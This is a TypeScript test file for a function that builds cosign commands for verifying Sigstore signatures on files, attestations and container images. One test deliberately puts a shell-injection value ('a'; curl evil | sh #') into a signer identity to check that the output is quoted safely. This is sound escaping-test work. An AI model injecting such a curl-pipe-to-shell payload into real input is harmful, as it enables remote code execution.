// SPDX-License-Identifier: Apache-2.0

import { describe, expect, it } from "vitest";
import type { AttestationHints } from "../../../shared/rekor/hints.ts";
import { COSIGN_SIGN_TYPE, cosignCommand } from "./command.ts";
import type { SignatureFacts } from "./entry.ts";
import type { Signer } from "./signer.ts";

const signer = {
  kind: "person",
  identity: "alice@example.com",
  issuer: "https://issuer.example",
  build: {},
  workflow: null,
} as const;

const factsOf = (hints: Partial<AttestationHints> | null, who: Signer | null = signer): SignatureFacts =>
  ({
    hints: hints === null ? null : { payloadHash: "", subjectDigests: ["sha256:00"], predicateType: null, ...hints },
    holder: who === null ? null : { signer: who },
  }) as unknown as SignatureFacts;

/** The command in one line, without the download of the trusted root. */
const commandOf = (facts: SignatureFacts): string =>
  (cosignCommand(facts, "https://sign.example") ?? "none").replaceAll(" \\\n ", "").split("\n")[1] ?? "none";

describe("the command of an entry", () => {
  const who = "--certificate-identity alice@example.com --certificate-oidc-issuer https://issuer.example";
  it.each([
    ["a file", factsOf(null), `verify-blob --trusted-root trusted_root.json --bundle FILE.sigstore.json ${who} FILE`],
    [
      "a file by a key",
      factsOf(null, null),
      "verify-blob --trusted-root trusted_root.json --bundle FILE.sigstore.json --key KEY.pub FILE",
    ],
    [
      "a statement",
      factsOf({ predicateType: "https://slsa.dev/provenance/v1" }),
      `verify-blob-attestation --trusted-root trusted_root.json --bundle FILE.sigstore.json --type https://slsa.dev/provenance/v1 ${who} FILE`,
    ],
    [
      "an image",
      factsOf({ predicateType: COSIGN_SIGN_TYPE }),
      `verify --trusted-root trusted_root.json ${who} IMAGE@sha256:00`,
    ],
  ])("verifies %s", (_, facts, command) => expect(commandOf(facts)).toBe(`cosign ${command}`));

  it("quotes what a hostile certificate names", () => {
    const hostile = { ...signer, identity: "a'; curl evil | sh #" };
    expect(commandOf(factsOf(null, hostile))).toContain(`--certificate-identity 'a'\\''; curl evil | sh #'`);
  });

  it.each([{ identity: "" }, { issuer: null }])("is none where a client could not name the signer: %j", (part) => {
    expect(cosignCommand(factsOf(null, { ...signer, ...part }), "https://sign.example")).toBeNull();
  });
});
